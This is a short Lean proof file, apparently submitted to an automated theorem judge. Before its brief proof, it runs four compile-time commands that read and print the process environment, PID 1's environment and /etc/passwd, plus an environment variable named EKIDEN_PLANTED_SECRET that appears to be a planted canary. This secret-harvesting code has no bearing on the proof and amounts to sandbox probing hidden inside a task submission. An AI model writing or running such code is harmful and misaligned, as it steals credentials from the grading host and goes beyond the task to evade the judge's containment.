import Lean
import JudgeProblem

def look (path : String) : IO String := do
  try IO.FS.readFile path catch _ => pure "nothing"

run_cmd do
  let own ← look "/proc/self/environ"
  IO.println own
run_cmd do
  let parent ← look "/proc/1/environ"
  IO.println parent
run_cmd do
  let users ← look "/etc/passwd"
  IO.println users
run_cmd do
  let secret ← IO.getEnv "EKIDEN_PLANTED_SECRET"
  IO.println (secret.getD "nothing")

theorem submission : Goal := by
  intro G _ h x y z
  exact h x y
